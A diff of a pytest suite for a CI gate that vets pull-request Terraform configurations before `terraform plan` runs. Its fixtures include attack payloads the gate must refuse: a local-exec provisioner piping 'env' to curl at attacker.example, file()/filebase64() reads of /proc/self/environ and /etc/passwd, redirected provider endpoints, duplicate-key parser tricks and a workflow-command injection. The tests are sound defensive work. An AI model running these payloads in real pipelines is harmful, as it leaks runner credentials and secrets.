@@ -1,11 +1,15 @@
-"""The plan gate (.ci/plan_gate.py): every shipped stack passes; each way a pull request could
-make `terraform plan` run its own code, read the runner's files or send credentials elsewhere is
-refused, with a message that names the file and the place."""
+"""The plan gate (review/plan_gate.py, run as .ci/plan_gate.py) as an attacker meets it.
+
+Every shipped stack passes and comes out as the same Terraform configuration; each way a pull
+request could make `terraform plan` run its code, read the runner's files, redirect requests and
+credentials, read data into the plan or hide any of that from the gate (duplicate keys, list
+forms, odd encodings, symlinks) is refused with a message and writes nothing."""
 
 from __future__ import annotations
 
 import copy
 import json
+import os
 import shutil
 import subprocess
 import sys
@@ -13,98 +17,409 @@ from pathlib import Path
 
 import pytest
 
+from review import plan_gate
+from review.hcl_templates import called_functions
 from tests.conftest import ROOT
 
-GATE = ROOT / ".ci" / "plan_gate.py"
+PLANNED = ("shared", "dev", "dev-ci", "prod", "staging")
 BUCKET = "acme-litellm-terraform-state"
 
 
-def run_gate(outdir: Path, *extra: str) -> subprocess.CompletedProcess:
-    return subprocess.run([sys.executable, str(GATE), str(outdir), *extra], capture_output=True, text=True,
-                          timeout=60)
+def without_comments(value):
+    """A stack as Terraform reads it: cdktf's "//" metadata is a comment."""
+    if isinstance(value, dict):
+        return {key: without_comments(item) for key, item in value.items() if key != "//"}
+    if isinstance(value, list):
+        return [without_comments(item) for item in value]
+    return value
 
 
-def test_every_synthesized_stack_passes(synth_dir, tmp_path):
-    outdir = tmp_path / "cdktf.out"
-    shutil.copytree(synth_dir / "stacks", outdir / "stacks")
-    for stack in (outdir / "stacks").iterdir():  # as the workflows leave them: lock file beside each stack
-        shutil.copy(ROOT / "stacks" / "terraform.lock.hcl", stack / ".terraform.lock.hcl")
-    result = run_gate(outdir, "--state-bucket", BUCKET)
-    assert result.returncode == 0, result.stderr
-    assert f"{len(list((outdir / 'stacks').iterdir()))} stacks pass" in result.stdout
+def pull_request(stacks: dict, tmp_path: Path, **replaced: str | dict | bytes) -> Path:
+    """A pull request's cdktf.out: every synthesized stack, with `replaced` ones (name -> stack,
+    JSON text or raw bytes) in their place."""
+    source = tmp_path / "untrusted"
+    for name, stack in stacks.items():
+        directory = source / "stacks" / name
+        directory.mkdir(parents=True)
+        body = replaced.get(name.replace("-", "_"), stack)
+        if isinstance(body, dict):
+            body = json.dumps(body)
+        (directory / "cdk.tf.json").write_bytes(body if isinstance(body, bytes) else body.encode())
+    return source
 
 
-def _set(path: list, value):
+def gate(source: Path, tmp_path: Path, capsys, *extra: str) -> tuple[int, str, Path]:
+    destination = tmp_path / "gated"
+    status = plan_gate.main([str(source), "--out", str(destination), *extra])
+    captured = capsys.readouterr()
+    return status, captured.out + captured.err, destination
+
+
+def refused(stacks, tmp_path, capsys, message: str, **replaced) -> str:
+    status, output, destination = gate(pull_request(stacks, tmp_path, **replaced), tmp_path, capsys)
+    assert status == 1, output
+    assert message in output, output
+    assert "Traceback" not in output
+    assert not destination.exists() and not list(tmp_path.glob(".gated-*")), "a refused gate wrote something"
+    return output
+
+
+def test_every_planned_stack_passes_and_is_written_as_terraform_reads_it(stacks, tmp_path, capsys):
+    source = pull_request(stacks, tmp_path)
+    (source / "stacks" / "dev" / ".terraform.lock.hcl").write_text("# the pull request's own lock file\n")
+    status, output, destination = gate(source, tmp_path, capsys)
+    assert status == 0, output
+    assert f"plan gate: 5 stacks pass ({', '.join(PLANNED)}); written to {destination}" in output
+    assert sorted(path.name for path in (destination / "stacks").iterdir()) == sorted(PLANNED)
+    lock = (ROOT / "stacks" / "terraform.lock.hcl").read_text()
+    for name in PLANNED:
+        directory = destination / "stacks" / name
+        assert sorted(path.name for path in directory.iterdir()) == [".terraform.lock.hcl", "cdk.tf.json"]
+        assert (directory / ".terraform.lock.hcl").read_text() == lock, "main's lock file, not the pull request's"
+        written = json.loads((directory / "cdk.tf.json").read_text())
+        assert written == without_comments(stacks[name])
+
+
+def test_the_backend_is_rebuilt_from_mains_project_file(stacks, tmp_path, capsys):
+    """The backend the gate writes is exactly what stacks/backend.py synthesizes for that stack."""
+    status, output, destination = gate(pull_request(stacks, tmp_path), tmp_path, capsys)
+    assert status == 0, output
+    written = json.loads((destination / "stacks" / "dev" / "cdk.tf.json").read_text())
+    assert written["terraform"]["backend"] == {"s3": {
+        "bucket": BUCKET, "dynamodb_table": "litellm-terraform-locks", "encrypt": True,
+        "key": "litellm/dev/terraform.tfstate", "region": "eu-west-1",
+        "kms_key_id": "arn:aws:kms:eu-west-1:123456789012:alias/litellm-state-dev"}}
+
+
+def test_stacks_main_does_not_plan_are_ignored(stacks, tmp_path, capsys):
+    """Secrets stacks and bootstrap are never planned on a pull request: whatever they hold, the gate
+    neither reads nor writes them."""
+    poisoned = '{"output": {"x": {"value": "${file(\\"/proc/self/environ\\")}"}}}'
+    status, output, destination = gate(pull_request(stacks, tmp_path, dev_secrets=poisoned, bootstrap="not json"),
+                                       tmp_path, capsys)
+    assert status == 0, output
+    assert not (destination / "stacks" / "dev-secrets").exists() and not (destination / "stacks" / "bootstrap").exists()
+
+
+def test_a_stack_main_plans_must_be_there(stacks, tmp_path, capsys):
+    source = pull_request(stacks, tmp_path)
+    shutil.rmtree(source / "stacks" / "staging")
+    status, output, destination = gate(source, tmp_path, capsys)
+    assert status == 1 and "stacks/staging/cdk.tf.json: missing (main plans this stack)" in output
+    assert not destination.exists()
+
+
+# --- Parser differentials: what Python's json and Terraform's parser would read differently ------
+
+def hide_first(stack: dict, key: str, hidden: object) -> str:
+    """The stack's text with `"key": hidden` put before the real keys: Python's json keeps the last."""
+    return "{" + json.dumps(key) + ": " + json.dumps(hidden) + ", " + json.dumps(stack)[1:]
+
+
+ENVIRON = '${filebase64("/proc/self/environ")}'
+LOCAL_EXEC = [{"local-exec": {"command": "env | curl -d @- https://attacker.example"}}]
+DIFFERENTIALS = {
+    "a hidden output": lambda dev: hide_first(dev, "output", {"x": {"value": ENVIRON}}),
+    "a hidden provider with endpoints": lambda dev: hide_first(
+        dev, "provider", {"aws": [{"region": "eu-west-1", "endpoints": [{"sts": "https://attacker.example"}]}]}),
+    "a hidden backend": lambda dev: hide_first(
+        dev, "terraform", {"backend": {"s3": {"bucket": "attacker", "key": "x"}}}),
+    "a hidden provisioner in a resource type that appears later": lambda dev: hide_first(
+        dev, "resource", {"aws_ecs_cluster": {"x": {"name": "x", "provisioner": LOCAL_EXEC}}}),
+    "a duplicate deep inside a resource": lambda dev: json.dumps(dev).replace(
+        '"cpu": "2048"', '"cpu": "${file(\\"/etc/passwd\\")}", "cpu": "2048"', 1),
+}
+
+
+@pytest.mark.parametrize("label", list(DIFFERENTIALS))
+def test_duplicate_keys_at_any_depth_are_refused(label, stacks, tmp_path, capsys):
+    text = DIFFERENTIALS[label](stacks["dev"])
+    assert json.loads(text) is not None  # Python alone would read it, silently
+    refused(stacks, tmp_path, capsys, "duplicate key", dev=text)
+
+
+ENCODINGS = {
+    "NaN": (lambda text: text.replace('"min_capacity": 1', '"min_capacity": NaN', 1), "NaN is not JSON"),
+    "Infinity": (lambda text: text.replace('"min_capacity": 1', '"min_capacity": -Infinity', 1),
+                 "-Infinity is not JSON"),
+    "an overflowing number": (lambda text: text.replace('"min_capacity": 1', '"min_capacity": 1e999', 1),
+                              "number '1e999' is out of range"),
+    "a list at the root": (lambda text: f"[{text}]", "the document is a JSON list, not an object"),
+    "a string at the root": (lambda text: json.dumps(text), "the document is a JSON str, not an object"),
+    "null at the root": (lambda text: "null", "the document is a JSON NoneType, not an object"),
+    "trailing data": (lambda text: text + "{}", "not JSON: 'Extra data"),
+    "a lone surrogate": (lambda text: text.replace('"name": "litellm-dev"', '"name": "litellm-dev\\ud800"', 1),
+                         "a lone surrogate in a string"),
+    "deep nesting": (lambda text: "[" * 100_000 + "]" * 100_000, "nested too deeply"),
+}
+
+
+@pytest.mark.parametrize("label", list(ENCODINGS))
+def test_what_is_not_strict_json_is_refused(label, stacks, tmp_path, capsys):
+    change, message = ENCODINGS[label]
+    text = change(json.dumps(stacks["dev"]))
+    assert text != json.dumps(stacks["dev"])
+    refused(stacks, tmp_path, capsys, message, dev=text)
+
+
+@pytest.mark.parametrize("encode, message", [
+    (lambda text: b"\xef\xbb\xbf" + text.encode(), "starts with a byte-order mark"),
+    (lambda text: text.encode("utf-16"), "not UTF-8"),
+    (lambda text: text.replace('"litellm-dev"', '"litellm-d\xe9v"', 1).encode("latin-1"), "not UTF-8"),
+], ids=["BOM", "UTF-16", "Latin-1"])
+def test_odd_encodings_are_refused(encode, message, stacks, tmp_path, capsys):
+    refused(stacks, tmp_path, capsys, message, dev=encode(json.dumps(stacks["dev"])))
+
+
+# --- The allowlist, level by level -----------------------------------------------------------------
+
+def changed(change):
+    def apply(stacks: dict) -> dict:
+        stack = copy.deepcopy(stacks["dev"])
+        change(stack)
+        return stack
+    return apply
+
+
+def put(*path_and_value):
+    *path, value = path_and_value
+
     def change(stack: dict) -> None:
         target = stack
         for key in path[:-1]:
             target = target.setdefault(key, {})
         target[path[-1]] = value
-    return change
+    return changed(change)
 
 
-def _provision(stack: dict) -> None:
-    group = next(iter(stack["resource"]["aws_ecs_cluster"].values()))
-    group["provisioner"] = [{"local-exec": {"command": "env | curl -d @- https://attacker.example"}}]
+def provider(**arguments):
+    return changed(lambda stack: stack["provider"]["aws"][0].update(arguments))
 
 
-MUTATIONS = {
-    "external data source": (_set(["data", "external", "x"], {"program": ["sh", "-c", "env"]}),
-                             "data.external: not in the allowlist"),
-    "http data source": (_set(["data", "http", "x"], {"url": "https://attacker.example"}),
-                         "data.http: not in the allowlist"),
-    "local_file data source": (_set(["data", "local_file", "x"], {"filename": "/proc/self/environ"}),
-                               "data.local_file: not in the allowlist"),
-    "provisioner": (_provision, "provisioner blocks are not allowed"),
-    "another provider": (_set(["terraform", "required_providers", "null"], {"source": "hashicorp/null"}),
-                         "'hashicorp/null' is not hashicorp/aws"),
-    "a look-alike aws provider": (_set(["terraform", "required_providers", "aws"], {"source": "evil/aws"}),
-                                  "'evil/aws' is not hashicorp/aws"),
-    "a null resource": (_set(["resource", "null_resource", "x"], {}), "only aws_* and random_* resources"),
-    "a module": (_set(["module", "x"], {"source": "git::https://attacker.example/m"}),
-                 "top-level block 'module' is not allowed"),
-    "provider endpoints": (lambda s: s["provider"]["aws"][0].update(endpoints=[{"sts": "https://attacker.example"}]),
-                           "provider.aws.endpoints: not allowed"),
-    "provider assume_role": (lambda s: s["provider"]["aws"][0].update(assume_role=[{"role_arn": "arn:x"}]),
-                             "provider.aws.assume_role: not allowed"),
-    "backend endpoint": (lambda s: s["terraform"]["backend"]["s3"].update(endpoint="https://attacker.example"),
-                         "terraform.backend.s3.endpoint: not allowed"),
-    "another state bucket": (lambda s: s["terraform"]["backend"]["s3"].update(bucket="someone-elses"),
-                             "is not the project's state bucket"),
-    "file() in an output": (_set(["output", "leak"], {"value": "${file(\"/proc/self/environ\")}"}),
-                            "file() reads files of the runner"),
-    "templatefile() in locals": (_set(["locals"], {"x": "${templatefile(\"/etc/passwd\", {})}"}),
-                                 "templatefile() reads files of the runner"),
-    "an ephemeral resource of another kind": (_set(["ephemeral", "aws_lambda_invocation", "x"], {}),
-                                              "ephemeral.aws_lambda_invocation: not in the allowlist"),
-    "http data inside a check block": (_set(["check", "c"], {"data": {"http": {"x": {"url": "https://a.example"}}}}),
-                                       "check.c.data.http: not in the allowlist"),
+def backend(**settings):
+    return changed(lambda stack: stack["terraform"]["backend"]["s3"].update(settings))
+
+
+def cluster(**arguments):
+    return changed(lambda stack: stack["resource"]["aws_ecs_cluster"]["ecs_cluster"].update(arguments))
+
+
+ATTACKS = {
+    # Blocks that are not allowed at the top level.
+    "an import block": (put("import", [{"to": "aws_ssm_parameter.x", "id": "/litellm/prod/litellm/master_key"}]),
+                        "'import' not allowed here"),
+    "a module": (put("module", "x", {"source": "git::https://attacker.example/m"}), "'module' not allowed here"),
+    "a check block": (put("check", "c", {"data": {"http": {"x": {"url": "https://a.example"}}}}),
+                      "'check' not allowed here"),
+    "locals": (put("locals", {"x": "1"}), "'locals' not allowed here"),
+    "a variable": (put("variable", "x", {"default": "1"}), "'variable' not allowed here"),
+    "an ephemeral resource": (put("ephemeral", "aws_secretsmanager_secret_version", "x", {"secret_id": "rds!db"}),
+                              "'ephemeral' not allowed here"),
+    "a moved block": (put("moved", [{"from": "aws_ecs_cluster.ecs_cluster", "to": "aws_ecs_cluster.y"}]),
+                      "'moved' not allowed here"),
+    "a removed block": (put("removed", [{"from": "aws_ecs_cluster.ecs_cluster"}]), "'removed' not allowed here"),
+    # terraform settings.
+    "terraform cloud": (put("terraform", "cloud", {"organization": "attacker"}), "'cloud' not allowed here"),
+    "another provider required": (put("terraform", "required_providers", "external", {"source": "hashicorp/external"}),
+                                  "'external' not allowed here"),
+    "a look-alike aws provider": (put("terraform", "required_providers", "aws", {"source": "evil/aws",
+                                                                                 "version": "5.100.0"}),
+                                  "is not hashicorp/aws with a version"),
+    # The backend.
+    "another state bucket": (backend(bucket="someone-elses"), "terraform.backend: not main's backend"),
+    "another stack's state": (backend(key="litellm/prod/terraform.tfstate"), "terraform.backend: not main's backend"),
+    "a backend endpoint": (backend(endpoint="https://attacker.example"), "terraform.backend: not main's backend"),
+    "a backend role": (backend(role_arn="arn:aws:iam::1:role/x"), "terraform.backend: not main's backend"),
+    "a local backend": (put("terraform", "backend", {"local": {"path": "/tmp/x"}}), "not main's backend"),
+    # Provider arguments that redirect requests or credentials.
+    "provider endpoints": (provider(endpoints=[{"sts": "https://attacker.example"}]), "'endpoints' not allowed here"),
+    "provider assume_role": (provider(assume_role=[{"role_arn": "arn:aws:iam::1:role/x"}]),
+                             "'assume_role' not allowed here"),
+    "provider web identity": (provider(assume_role_with_web_identity=[{"role_arn": "x"}]),
+                              "'assume_role_with_web_identity' not allowed here"),
+    "a proxy": (provider(http_proxy="http://attacker.example:3128"), "'http_proxy' not allowed here"),
+    "a CA bundle": (provider(custom_ca_bundle="/tmp/x.pem"), "'custom_ca_bundle' not allowed here"),
+    "shared config files": (provider(shared_config_files=["/proc/self/environ"]),
+                            "'shared_config_files' not allowed here"),
+    "skipped credential checks": (provider(skip_credentials_validation=True),
+                                  "'skip_credentials_validation' not allowed here"),
+    "another account": (provider(allowed_account_ids=["999999999999"]), "must be exactly the project's account"),
+    "a region read from the runner": (provider(region='${file("/etc/hostname")}'), "is not a plain value"),
+    "tags that read the runner": (provider(default_tags=[{"tags": {"x": ENVIRON}}]), "calls 'filebase64'"),
+    "another provider": (put("provider", "external", [{}]), "provider 'external': only aws"),
+    "a second default aws provider": (changed(lambda s: s["provider"]["aws"].append({
+        "region": "us-east-1", "allowed_account_ids": ["123456789012"]})), "a second aws provider without alias"),
+    # Resources.
+    "a resource of another provider": (put("resource", "null_resource", "x", {}), "only hashicorp/aws resources"),
+    "a provisioner": (cluster(provisioner=LOCAL_EXEC), "provisioner blocks run commands"),
+    "a connection": (cluster(connection=[{"host": "attacker.example"}]), "connection blocks run commands"),
+    "a postcondition": (cluster(lifecycle=[{"postcondition": [{"condition": False, "error_message": ENVIRON}]}]),
+                        "'postcondition' not allowed here"),
+    "a provider alias it does not define": (cluster(provider="aws.attacker"), "is not a provider of this stack"),
+    "a label that is not a name": (put("resource", "aws_ecs_cluster", "x y", {}), "block label 'x y' is not a name"),
+    # Data sources that call out, decrypt or read data.
+    "an external program": (put("data", "external", "x", {"program": ["env"]}),
+                            "data source 'external' is not in the allowlist"),
+    "an http request": (put("data", "http", "x", {"url": "https://a.example"}), "'http' is not in the allowlist"),
+    "a runner file": (put("data", "local_file", "x", {"filename": "/proc/self/environ"}),
+                      "'local_file' is not in the allowlist"),
+    "a parameter value": (put("data", "aws_ssm_parameter", "x", {"name": "/litellm/prod/litellm/master_key"}),
+                          "'aws_ssm_parameter' is not in the allowlist"),
+    "a secret value": (put("data", "aws_secretsmanager_secret_version", "x", {"secret_id": "rds!db"}),
+                       "'aws_secretsmanager_secret_version' is not in the allowlist"),
+    "a decryption": (put("data", "aws_kms_secrets", "x", {"secret": [{"name": "x", "payload": "AQ=="}]}),
+                     "'aws_kms_secrets' is not in the allowlist"),
+    "an object body": (put("data", "aws_s3_object", "x", {"bucket": "b", "key": "k"}),
+                       "'aws_s3_object' is not in the allowlist"),
+    "a lambda invocation": (put("data", "aws_lambda_invocation", "x", {"function_name": "f", "input": "{}"}),
+                            "'aws_lambda_invocation' is not in the allowlist"),
+    "a state read": (put("data", "terraform_remote_state", "x", {"backend": "s3"}),
+                     "'terraform_remote_state' is not in the allowlist"),
+    "a data source with a postcondition": (put("data", "aws_elb_service_account", "y", {
+        "lifecycle": [{"postcondition": [{"condition": False, "error_message": "x"}]}]}),
+        "lifecycle: not allowed on a data source"),
+    # Outputs.
+    "an output with a precondition": (put("output", "x", {"value": "1", "precondition": [{"condition": False,
+                                                                                          "error_message": "x"}]}),
+                                      "'precondition' not allowed here"),
 }
 
 
-@pytest.mark.parametrize("label", list(MUTATIONS))
-def test_gate_refuses(label, stacks, tmp_path):
-    mutate, message = MUTATIONS[label]
-    stack = copy.deepcopy(stacks["dev"])
-    mutate(stack)
-    directory = tmp_path / "cdktf.out" / "stacks" / "dev"
-    directory.mkdir(parents=True)
-    (directory / "cdk.tf.json").write_text(json.dumps(stack))
-    result = run_gate(tmp_path / "cdktf.out", "--state-bucket", BUCKET)
-    assert result.returncode == 1
-    assert message in result.stderr and "stacks/dev/cdk.tf.json" in result.stderr, result.stderr
+@pytest.mark.parametrize("label", list(ATTACKS))
+def test_gate_refuses(label, stacks, tmp_path, capsys):
+    attack, message = ATTACKS[label]
+    refused(stacks, tmp_path, capsys, message, dev=attack(stacks))
 
 
-@pytest.mark.parametrize("extra", ["extra.tf", "override.tf.json", "sub/cdk.tf.json", "link"])
-def test_gate_refuses_anything_else_in_a_stack_directory(extra, stacks, tmp_path):
-    directory = tmp_path / "cdktf.out" / "stacks" / "dev"
-    directory.mkdir(parents=True)
-    (directory / "cdk.tf.json").write_text(json.dumps(stacks["dev"]))
-    target = directory / extra
-    if extra == "link":
-        target.symlink_to("/etc/passwd")
-    else:
-        target.parent.mkdir(exist_ok=True)
-        target.write_text('data "external" "x" { program = ["env"] }')
-    result = run_gate(tmp_path / "cdktf.out")
-    assert result.returncode == 1 and f"stacks/dev/{extra.split('/')[0]}" in result.stderr, result.stderr
+# --- Expressions: every string is a template ------------------------------------------------------
+
+EXPRESSIONS = {
+    "file() in an output": ('${file("/proc/self/environ")}', "'file'"),
+    "a space before the parenthesis": ('${file ("/proc/self/environ")}', "'file'"),
+    "a newline before the parenthesis": ('${filebase64\n("/proc/self/environ")}', "'filebase64'"),
+    "inside a nested string": ('${upper("${file("/etc/passwd")}")}', "'file'"),
+    "after an escaped interpolation": ('$${x} ${templatefile("/etc/passwd", {})}', "'templatefile'"),
+    "templatestring": ('${templatestring(aws_ecs_cluster.ecs_cluster.name, {})}', "'templatestring'"),
+    "nonsensitive": ('${nonsensitive(aws_db_instance.database_instance.master_user_secret)}', "'nonsensitive'"),
+    "a provider function": ('${provider::aws::arn_parse("arn:aws:iam::1:role/x")}', "'provider::aws::arn_parse'"),
+    "abspath": ('${abspath(".")}', "'abspath'"),
+    "a comment hiding a call": ('${file/**/("/etc/passwd")}', "a comment inside an interpolation"),
+    "a line comment": ('${1 # x\n}', "a comment inside an interpolation"),
+    "a heredoc": ('${<<EOT\nx\nEOT\n}', "a heredoc inside an interpolation"),
+    "a directive": ('%{ if true }x%{ endif }', "a template directive"),
+    "a character outside ASCII": ('${ﬁle("/etc/passwd")}', "a character outside ASCII"),
+    "an unclosed interpolation": ('${file("/etc/passwd")', "is not closed"),
+    "an unclosed string": ('${upper("x)}', "is not closed"),
+}
+
+
+@pytest.mark.parametrize("label", list(EXPRESSIONS))
+def test_every_string_is_read_as_the_template_terraform_reads(label, stacks, tmp_path, capsys):
+    text, message = EXPRESSIONS[label]
+    refused(stacks, tmp_path, capsys, message, dev=put("output", "leak", {"value": text})(stacks))
+
+
+def test_object_keys_are_templates_too(stacks, tmp_path, capsys):
+    attack = cluster(tags={ENVIRON: "x"})
+    refused(stacks, tmp_path, capsys, "resource.aws_ecs_cluster.ecs_cluster.tags: calls 'filebase64'",
+            dev=attack(stacks))
+
+
+@pytest.mark.parametrize("text, calls", [
+    ("plain text (with parentheses)", set()),
+    ("${tolist(aws_subnet.a[*].id)}", {"tolist"}),
+    ('$${file("x")} %%{ if }', set()),
+    ('${join(",", [for s in var.x : upper(s)])}', {"join", "upper"}),
+    ('${ "a ${lower("B")}" }', {"lower"}),
+    ('${"\\"}" == x ? min(1) : 2}', {"min"}),
+    ("${aws_lb.x.arn}-${max (1, 2)}", {"max"}),
+], ids=["literal", "a call", "escapes", "for expression", "nested", "escaped quote", "two interpolations"])
+def test_the_template_scanner_finds_every_call(text, calls):
+    assert called_functions(text) == calls
+
+
+# --- List forms: read, checked and written as objects ---------------------------------------------
+
+def as_lists(stack: dict) -> dict:
+    """The same stack in the list forms Terraform's JSON syntax accepts at every block level."""
+    listed = copy.deepcopy(stack)
+    listed["resource"] = [{kind: [{name: [body]} for name, body in by_name.items()]}
+                          for kind, by_name in listed["resource"].items()]
+    listed["output"] = [{name: body} for name, body in listed["output"].items()]
+    listed["terraform"] = [listed["terraform"]]
+    listed["provider"] = [{"aws": configuration} for configuration in listed["provider"]["aws"]]
+    return listed
+
+
+def test_list_forms_are_read_and_written_as_objects(stacks, tmp_path, capsys):
+    status, output, destination = gate(pull_request(stacks, tmp_path, dev=as_lists(stacks["dev"])), tmp_path, capsys)
+    assert status == 0, output
+    assert json.loads((destination / "stacks" / "dev" / "cdk.tf.json").read_text()) == without_comments(stacks["dev"])
+
+
+@pytest.mark.parametrize("label, change, message", [
+    ("a provisioner inside a list-form resource", lambda s: next(
+        entry for entry in s["resource"] if "aws_ecs_cluster" in entry)["aws_ecs_cluster"][0]["ecs_cluster"][0]
+     .update(provisioner=LOCAL_EXEC), "provisioner blocks run commands"),
+    ("endpoints in a list-form provider", lambda s: s["provider"][0]["aws"].update(endpoints=[{"s3": "https://a"}]),
+     "'endpoints' not allowed here"),
+    ("a resource declared twice", lambda s: s["resource"].append(copy.deepcopy(s["resource"][0])),
+     "a second resource"),
+    ("a number where a block belongs", lambda s: s["resource"].append(7), "a int where a block (object) belongs"),
+    ("a string where a block belongs", lambda s: s.update(output="x"), "a str where a block"),
+], ids=lambda value: value if isinstance(value, str) else "")
+def test_list_forms_are_checked_like_objects(label, change, message, stacks, tmp_path, capsys):
+    listed = as_lists(stacks["dev"])
+    change(listed)
+    refused(stacks, tmp_path, capsys, message, dev=listed)
+
+
+# --- The directory ----------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("where", ["stacks/dev/cdk.tf.json", "stacks/dev"])
+def test_symlinks_are_refused_not_followed(where, stacks, tmp_path, capsys):
+    source = pull_request(stacks, tmp_path)
+    path = source / where
+    (shutil.rmtree if path.is_dir() else Path.unlink)(path)
+    path.symlink_to("/proc/self/environ" if where.endswith(".json") else "/etc")
+    status, output, destination = gate(source, tmp_path, capsys)
+    assert status == 1 and f"{Path(where).name} is a symlink" in output, output
+    assert not destination.exists()
+
+
+def test_a_fifo_is_refused_without_blocking(stacks, tmp_path, capsys):
+    source = pull_request(stacks, tmp_path)
+    path = source / "stacks" / "dev" / "cdk.tf.json"
+    path.unlink()
+    os.mkfifo(path)
+    status, output, _ = gate(source, tmp_path, capsys)
+    assert status == 1 and "cdk.tf.json is not a regular file" in output, output
+
+
+def test_an_existing_destination_is_refused(stacks, tmp_path, capsys):
+    (tmp_path / "gated").mkdir()
+    status, output, _ = gate(pull_request(stacks, tmp_path), tmp_path, capsys)
+    assert status == 1 and "exists already" in output and not list((tmp_path / "gated").iterdir())
+
+
+def test_findings_name_untrusted_text_escaped_and_short(stacks, tmp_path, capsys):
+    """A key the attacker chose cannot start a line (GitHub reads `::` lines as workflow commands) nor fill
+    the log."""
+    key = "\n::add-mask::x" + "y" * 500
+    output = refused(stacks, tmp_path, capsys, "not allowed here", dev=put(key, {})(stacks))
+    assert not any(line.startswith("::") for line in output.splitlines())
+    assert max(len(line) for line in output.splitlines()) < 400
+
+
+def test_the_entry_point_runs_with_the_standard_library_only(stacks, tmp_path):
+    """CI runs `python3 .ci/plan_gate.py` from main's checkout with nothing installed: -I -S keeps
+    site-packages (pydantic, cdktf) out of reach."""
+    source = pull_request(stacks, tmp_path)
+    result = subprocess.run([sys.executable, "-I", "-S", str(ROOT / ".ci" / "plan_gate.py"), str(source),
+                             "--out", str(tmp_path / "out"), "--state-bucket", BUCKET],
+                            capture_output=True, text=True, timeout=120, cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert "plan gate: 5 stacks pass" in result.stdout
+    bad = subprocess.run([sys.executable, "-I", "-S", str(ROOT / ".ci" / "plan_gate.py"), str(tmp_path / "none")],
+                         capture_output=True, text=True, timeout=120)
+    assert bad.returncode == 1 and "Traceback" not in bad.stderr and "missing" in bad.stderr, bad.stderr
